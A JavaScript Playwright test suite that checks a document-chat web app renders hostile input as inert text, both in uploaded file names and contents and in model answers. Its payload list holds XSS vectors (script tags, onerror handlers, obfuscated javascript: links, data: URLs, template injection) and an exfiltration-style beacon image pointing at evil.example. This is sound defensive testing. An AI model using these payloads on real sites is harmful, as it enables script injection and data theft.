// @ts-check
/** Nothing that a file, its name, a model or another user wrote is ever executed or loaded. */

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { addDocuments, ask, launchBrowser, openPage, register, waitForAnswer } from "./browser.mjs";
import { Models, startColloquy } from "./servers.mjs";

/** @type {Models} */ let models;
/** @type {Awaited<ReturnType<typeof startColloquy>>} */ let server;
/** @type {import("playwright-core").Browser} */ let browser;

before(async () => {
  models = await Models.start();
  [server, browser] = await Promise.all([startColloquy(models.url), launchBrowser()]);
});
after(async () => {
  await browser?.close();
  await server?.stop();
  await models?.stop();
});

const RUN = "noteViolation('a script ran')";
const HOSTILE = `<script>${RUN}</script><img src=x onerror="${RUN}"><svg onload="${RUN}"></svg>`;
const LINES = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">html link</a>`,
  `[a script](javascript:${RUN})`,
  `[a script in disguise](JaVa&#115;cript:${RUN})`,
  `[a tab](java\tscript:${RUN})`,
  `[data](data:text/html,<script>${RUN}</script>)`,
  "[a file](file:///etc/passwd) [a path](/api/v1/auth/me) [relative](//evil.example)",
  "![a beacon](http://evil.example/beacon.png?secret)",
  "[good](https://example.org/?q=1)",
  `<${RUN}@example.org> <https://example.org/auto>`,
  `**bold <b onclick="${RUN}">b</b>** [1](javascript:${RUN}) [1]: javascript:${RUN}`,
  "| a | <img src=x onerror=\"" + RUN + "\"> |\n|---|---|\n| `<script>` | &lt;script&gt;" + RUN + "&lt;/script&gt; |",
  "```html\n</code></pre><script>" + RUN + "</script>\n```",
  "{{constructor.constructor('" + RUN + "')()}} [7] [1] [1, 2]",
];

/** Everything that a page could have been led to. @param {import("playwright-core").Page} page */
function listSuspects(page) {
  return page.evaluate(() => {
    const main = document.getElementById("page");
    const elements = [...(main?.querySelectorAll("*") ?? [])];
    const handlers = elements.flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith("on") || name === "srcdoc"),
    );
    const tags = elements
      .map((element) => element.localName)
      .filter((name) => /^(script|img|iframe|object|embed|style|link|base|meta|form-)$/.test(name));
    const links = elements
      .filter((element) => element instanceof HTMLAnchorElement)
      .filter((link) => link.target === "_blank")
      .filter((link) => !/^(https?:|mailto:)/.test(link.href) || !link.rel.includes("noopener"))
      .map((link) => link.href);
    return [...handlers, ...tags, ...links];
  });
}

test("the listener notices what it is there for", async () => {
  const { page, violations } = await openPage(browser, server.url);
  await page.goto("/");
  const errors = await page.evaluate(() => {
    const attempts = [
      () => (document.body.innerHTML = "<b>bold</b>"),
      () => document.createElement("img").setAttribute("onerror", "noteViolation('a script ran')"),
      () => setTimeout("noteViolation('a script ran')"),
    ];
    return attempts.map((attempt) => {
      try {
        attempt();
        return "";
      } catch (error) {
        return String(error);
      }
    });
  });
  for (const error of errors) assert.match(error, /Trusted/);
  while (!violations.some((each) => /^policy: require-trusted-types-for/.test(each))) {
    await page.waitForTimeout(50); // The browser reports it when it comes to it.
  }
  assert.ok(!violations.includes("a script ran"));
});

test("names, titles and texts of documents are text, and nothing else", async () => {
  const { page, violations } = await openPage(browser, server.url);
  await register(page);
  const sentence = `The password of the harbour is ${HOSTILE} and was chosen by Sostratus.`;
  await addDocuments(
    page,
    {
      name: `<img src=x onerror=${RUN}>.md`,
      mimeType: "text/markdown",
      buffer: Buffer.from(`# ${HOSTILE}\n\n${sentence}\n\n${LINES.join("\n\n")}\n`),
    },
    {
      name: "page.html",
      mimeType: "text/html",
      buffer: Buffer.from(`<html><title>${HOSTILE}</title><body onload="${RUN}"><p>${sentence}</p>${HOSTILE}</body></html>`),
    },
  );
  await ask(page, "Which password of the harbour was chosen by Sostratus?");
  const answer = await waitForAnswer(page);
  await answer.getByRole("button", { name: /^Source \d/ }).first().click();
  await page.getByRole("complementary", { name: "Document" }).locator("mark").waitFor();
  await page.getByRole("link", { name: "Documents" }).click();
  await page.getByRole("button", { name: `<img src=x onerror=${RUN}>`, exact: true }).click();
  const reader = page.getByRole("complementary", { name: "Document" });
  await reader.getByText(`<script>${RUN}</script>`).waitFor();
  await page.getByRole("searchbox", { name: "Search your chats" }).fill("password");
  await page.getByRole("heading", { name: /^Found/ }).waitFor();
  assert.deepEqual(await listSuspects(page), []);
  assert.deepEqual(violations, []);
});

test("an answer full of scripts is shown as the text it is, while it grows and after", async () => {
  const { page, violations } = await openPage(browser, server.url);
  await register(page);
  await addDocuments(page, { name: "rain.md", mimeType: "text/markdown", buffer: Buffer.from("It rains in Bergen.") });
  models.say(LINES.join("\n\n"));
  await ask(page, HOSTILE);
  const answer = await waitForAnswer(page);
  const text = await answer.innerText();
  assert.ok(text.includes(`<script>${RUN}</script>`));
  assert.ok(text.includes("a beacon"));
  assert.equal(await answer.getByRole("link", { name: "good" }).getAttribute("rel"), "noopener noreferrer nofollow");
  for (const name of ["a script", "a script in disguise", "a tab", "data", "a file", "a path", "relative"]) {
    assert.equal(await answer.getByRole("link", { name, exact: true }).count(), 0, name);
  }
  // What has a source is a button, and what has none is text.
  assert.ok((await answer.getByRole("button", { name: /^Source 1/ }).count()) > 0);
  assert.match(text, /\[7\]/);
  assert.deepEqual(await listSuspects(page), []);
  await page.reload();
  await waitForAnswer(page);
  assert.deepEqual(await listSuspects(page), []);
  assert.deepEqual(violations, []);
});
